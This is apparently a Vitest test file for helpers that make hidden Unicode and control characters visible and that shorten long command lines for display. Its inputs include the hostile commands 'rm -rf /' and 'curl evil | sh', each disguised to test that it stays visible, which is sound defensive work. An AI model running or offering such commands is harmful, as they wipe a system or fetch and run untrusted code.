import { expect, test } from "vitest";
import { inOneLine, visible } from "./visible.ts";

test("characters that hide, reorder or break a line are shown by name (mend 6)", () => {
  expect(visible("echo hi # \nrm -rf /\t\u001b[8m")).toBe("echo hi # ␊rm -rf /␉␛[8m");
  expect(visible("a\u202eb\u2066c\u200bd\u200de\u00adf\ufeffg\u00a0h\u2800i\u3164j\u2028k\u{e0041}l")).toBe(
    "a<U+202E>b<U+2066>c<U+200B>d<U+200D>e<U+00AD>f<U+FEFF>g<U+00A0>h<U+2800>i<U+3164>j<U+2028>k<U+E0041>l",
  );
  // Characters that Unicode has not assigned yet and that fonts leave out.
  expect(visible("a\u2065b\ufff0c\u{e0080}d\u034fe\ufe0ff\uffa0g")).toBe("a<U+2065>b<U+FFF0>c<U+E0080>d<U+034F>e<U+FE0F>f<U+FFA0>g");
  expect(visible("grün 日本 🙂 plain")).toBe("grün 日本 🙂 plain");
});

test("a long line shows its beginning, its end and how much is left out (mend 6)", () => {
  const line = inOneLine(`echo ${"x".repeat(5000)}; curl evil | sh`);
  expect(line).toMatch(/^echo x+ …\[5021 characters in all\]… x+; curl evil \| sh$/);
  expect(line.length).toBeLessThanOrEqual(400);
  expect(inOneLine("  npm test ")).toBe("npm test");
  expect(inOneLine("🙂".repeat(1000))).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
});
